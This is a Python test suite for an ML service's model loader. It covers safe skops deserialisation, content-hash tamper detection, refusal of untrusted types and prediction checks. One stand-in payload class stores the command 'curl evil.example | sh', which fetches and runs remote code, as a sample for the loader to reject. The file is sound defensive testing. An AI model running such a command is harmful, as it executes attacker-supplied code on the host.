"""Tests for service.artifact.model: safe loading, tamper detection and prediction."""

from __future__ import annotations

import dataclasses
import functools
import io
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
import skops.io as sio
from sklearn.pipeline import Pipeline

from service.artifact.card import CARD_FILE, MODEL_FILE, ModelCard, content_version
from service.artifact.datasets import Dataset, load_bundled
from service.artifact.model import ModelLoadError, load_model
from service.artifact.training import describe_features, fit_pipeline, split_dataset, to_matrix, train, train_bundled


class _Payload:
    """Stands in for whatever an attacker would like constructed at load time."""

    def __init__(self) -> None:
        self.command = "curl evil.example | sh"


@pytest.fixture(scope="module")
def artifacts(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """One trained model directory per bundled dataset, shared read-only by the module."""
    root = tmp_path_factory.mktemp("models")
    return {name: _trained(name, root / name) for name in ("diabetes", "breast_cancer", "wine")}


@pytest.fixture
def artifact(tmp_path: Path, artifacts: dict[str, Path]) -> Path:
    """A private copy of the wine model, for tests that tamper with it."""
    return Path(shutil.copytree(artifacts["wine"], tmp_path / "wine"))


def _trained(name: str, output: Path) -> Path:
    train_bundled(name, output)
    return output


def _in_memory(name: str) -> tuple[Pipeline, np.ndarray]:
    """The pipeline `train` fits for `name`, rebuilt in memory, and the holdout rows."""
    train_split, holdout = split_dataset(load_bundled(name))
    features = describe_features(train_split.frame)
    return fit_pipeline(train_split, features), to_matrix(holdout.frame, features)


def _replace_model(directory: Path, obj: Any, *, reversion: bool) -> None:
    """Dump `obj` as the model; with `reversion`, also rewrite the card version so the hash matches."""
    buffer = io.BytesIO()
    sio.dump(obj, buffer)
    (directory / MODEL_FILE).write_bytes(buffer.getvalue())
    if reversion:
        _rewrite_card(directory, ModelCard.load(directory))


def _rewrite_card(directory: Path, card: ModelCard) -> None:
    """Save `card` with the version recomputed, as someone forging an artifact would."""
    version = content_version((directory / MODEL_FILE).read_bytes(), card)
    dataclasses.replace(card, version=version).save(directory)


class TestLoadAndPredict:
    """A trained artifact loads back and predicts exactly like the pipeline fitted in memory."""

    @pytest.mark.parametrize("name", ["diabetes", "breast_cancer", "wine"])
    def test_predictions_match_in_memory_pipeline(self, artifacts: dict[str, Path], name: str) -> None:
        model = load_model(artifacts[name])
        pipeline, rows = _in_memory(name)
        np.testing.assert_array_equal(model.predict_array(rows), pipeline.predict(rows))
        assert model.predict(rows) == pipeline.predict(rows).tolist()

    def test_card_is_loaded(self, artifacts: dict[str, Path]) -> None:
        model = load_model(artifacts["wine"])
        assert model.card == ModelCard.load(artifacts["wine"])

    def test_regression_returns_python_floats(self, artifacts: dict[str, Path]) -> None:
        model = load_model(artifacts["diabetes"])
        _, rows = _in_memory("diabetes")
        predictions = model.predict(rows[:5])
        assert len(predictions) == 5
        assert all(type(value) is float for value in predictions)

    def test_classification_returns_card_class_names(self, artifacts: dict[str, Path]) -> None:
        model = load_model(artifacts["breast_cancer"])
        _, rows = _in_memory("breast_cancer")
        predictions = model.predict(rows)
        assert all(type(label) is str for label in predictions)
        assert set(predictions) == set(model.card.classes)

    def test_wrong_shape_is_refused(self, artifacts: dict[str, Path]) -> None:
        model = load_model(artifacts["wine"])
        with pytest.raises(ValueError, match=r"shape \(n, 13\)"):
            model.predict(np.zeros((2, 12)))
        with pytest.raises(ValueError, match=r"shape \(n, 13\)"):
            model.predict(np.zeros(13))

    def test_mixed_features_with_missing_and_unseen_values(self, tmp_path: Path) -> None:
        rng = np.random.default_rng(0)
        colour = rng.choice(["red", "blue"], 100).astype(object)
        size = rng.normal(10, 2, 100)
        frame = pd.DataFrame({"size": size, "colour": colour})
        frame.loc[::9, "size"] = np.nan
        frame.loc[::7, "colour"] = np.nan
        target = pd.Series(np.where(colour == "red", 5.0, -5.0) + size)
        card = train(Dataset("csv:paint.csv", frame, target, "regression", "y"), output=tmp_path)
        model = load_model(tmp_path)
        rows = np.array([[10.0, "red"], [None, None], [np.nan, "green"]], dtype=object)
        predictions = model.predict_array(rows)
        assert card.feature("colour").categories == ("blue", "red")
        assert np.isfinite(predictions).all()
        assert predictions[0] > predictions[2]
        assert model.predict(rows) == predictions.tolist()


class TestRefusedArtifacts:
    """Missing files, untrusted types, hash mismatches and inconsistent cards raise ModelLoadError."""

    @pytest.mark.parametrize("missing", [CARD_FILE, MODEL_FILE])
    def test_missing_file_is_named(self, artifact: Path, missing: str) -> None:
        (artifact / missing).unlink()
        with pytest.raises(ModelLoadError, match=f"{missing}: missing"):
            load_model(artifact)

    def test_missing_directory(self, tmp_path: Path) -> None:
        with pytest.raises(ModelLoadError, match=f"{CARD_FILE}: missing"):
            load_model(tmp_path / "nothing-here")

    def test_invalid_card(self, artifact: Path) -> None:
        text = (artifact / CARD_FILE).read_text().replace('"task": "classification"', '"task": "ranking"')
        (artifact / CARD_FILE).write_text(text)
        with pytest.raises(ModelLoadError, match=f"invalid model card: .*{CARD_FILE}: 'task'"):
            load_model(artifact)

    @pytest.mark.parametrize(
        ("payload", "type_name"),
        [
            (_Payload(), "_Payload"),
            (functools.partial(print, "hi"), "functools.partial"),
            (eval, "builtins.eval"),
        ],
    )
    def test_untrusted_type_is_refused(self, artifact: Path, payload: object, type_name: str) -> None:
        # The forger also recomputes the card version, so only the type audit stands in the way.
        pipeline, _ = _in_memory("wine")
        pipeline[-1].extra_ = payload
        _replace_model(artifact, pipeline, reversion=True)
        with pytest.raises(ModelLoadError, match="refusing to load untrusted types") as caught:
            load_model(artifact)
        assert type_name in str(caught.value)
        assert "numpy.dtype" not in str(caught.value)
        assert "tampered" in str(caught.value)

    def test_swapped_model_file_is_refused(self, artifact: Path, artifacts: dict[str, Path]) -> None:
        shutil.copy(artifacts["breast_cancer"] / MODEL_FILE, artifact / MODEL_FILE)
        with pytest.raises(ModelLoadError, match="does not match the card version"):
            load_model(artifact)

    def test_retrained_model_file_is_refused(self, artifact: Path) -> None:
        # A model of the same shape and classes, trained on other rows: only the hash tells them apart.
        train_split, _ = split_dataset(load_bundled("wine"), seed=7)
        _replace_model(artifact, fit_pipeline(train_split, ModelCard.load(artifact).features), reversion=False)
        with pytest.raises(ModelLoadError, match=f"{MODEL_FILE}: content hash .* does not match"):
            load_model(artifact)

    def test_edited_card_is_refused(self, artifact: Path) -> None:
        card = ModelCard.load(artifact)
        dataclasses.replace(card, metrics={**card.metrics, "accuracy": 1.0, "f1_macro": 0.99}).save(artifact)
        with pytest.raises(ModelLoadError, match="does not match the card version"):
            load_model(artifact)

    def test_a_card_versioned_the_old_way_still_loads(self, artifact: Path) -> None:
        # Cards written by 0.1 hashed the file's bytes; their artifacts keep loading after an upgrade.
        card = ModelCard.load(artifact)
        legacy = content_version((artifact / MODEL_FILE).read_bytes(), card, legacy=True)
        assert legacy != card.version
        dataclasses.replace(card, version=legacy).save(artifact)
        assert load_model(artifact).card.version == legacy

    @pytest.mark.parametrize("offset", [0.25, 0.5, 0.75])
    def test_flipped_byte_anywhere_is_refused(self, artifact: Path, offset: float) -> None:
        data = bytearray((artifact / MODEL_FILE).read_bytes())
        data[int(len(data) * offset)] ^= 0xFF
        (artifact / MODEL_FILE).write_bytes(bytes(data))
        with pytest.raises(ModelLoadError, match=MODEL_FILE):
            load_model(artifact)

    def test_flipped_byte_is_refused(self, artifact: Path) -> None:
        data = bytearray((artifact / MODEL_FILE).read_bytes())
        data[len(data) // 2] ^= 0xFF
        (artifact / MODEL_FILE).write_bytes(bytes(data))
        with pytest.raises(ModelLoadError, match=MODEL_FILE):
            load_model(artifact)

    @pytest.mark.parametrize(("content", "problem"), [(b"", "file is empty"), (b"not a zip", "not a valid skops")])
    def test_not_a_skops_file(self, artifact: Path, content: bytes, problem: str) -> None:
        (artifact / MODEL_FILE).write_bytes(content)
        with pytest.raises(ModelLoadError, match=problem):
            load_model(artifact)

    def test_non_estimator_is_refused(self, artifact: Path) -> None:
        _replace_model(artifact, {"coef": np.zeros(3)}, reversion=True)
        with pytest.raises(ModelLoadError, match="holds a dict, not an estimator"):
            load_model(artifact)

    def test_feature_count_mismatch_is_refused(self, artifact: Path) -> None:
        card = ModelCard.load(artifact)
        _rewrite_card(artifact, dataclasses.replace(card, features=card.features[:-1]))
        with pytest.raises(ModelLoadError, match="takes 13 input features, the card lists 12"):
            load_model(artifact)

    def test_class_mismatch_is_refused(self, artifact: Path) -> None:
        card = ModelCard.load(artifact)
        _rewrite_card(artifact, dataclasses.replace(card, classes=("a", "b", "c")))
        with pytest.raises(ModelLoadError, match=r"predicts classes \['class_0'"):
            load_model(artifact)
